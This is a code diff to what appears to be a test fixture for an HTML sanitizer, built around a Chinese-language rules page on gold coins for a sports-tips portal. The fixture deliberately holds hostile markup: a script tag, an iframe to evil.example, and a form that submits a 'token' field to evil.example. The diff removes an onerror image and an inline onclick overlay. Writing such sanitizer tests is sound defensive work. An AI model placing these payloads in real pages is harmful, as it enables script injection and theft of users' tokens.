@@ -1,13 +1,16 @@
-/** The rules of the coins as an editor of the portal would have pasted them: with what a page must not take over. */
+/**
+ * The rules of the coins as an editor of the portal would have pasted them: with what a page must not take over. No inline
+ * handlers: a strict policy reports those while they are being cleaned away.
+ */
 export const GOLD_DOCUMENT = `<h2>如何获得</h2>
 <ul><li>每日登录与观看直播完成任务。</li>
 <li>直播间红包与抽奖。</li>
 <li>在<a href="/gold-mall?from=document">金币商城</a>兑换，受每日上限限制。</li>
 </ul>
-<h2 style="position:fixed;inset:0" onclick="alert(1)">如何使用</h2>
+<h2 class="si-app" id="root">如何使用</h2>
 <ul><li>购买专家爆料，价格以下单页为准。</li>
 <li>在金币商城兑换实物或虚拟权益。</li>
-</ul><script>alert(1)</script><img src="x" onerror="alert(1)">
+</ul><script>alert(1)</script><iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name="token"></form>
 <h2>不中返还</h2>
 <p>标有“不中全退”或“不中退 N%”的爆料，结算为黑单后按比例返还金币（向下取整）；比赛取消时全额返还。通常在比赛结束后 2 小时内到账。</p>
 <h2>有效期</h2>
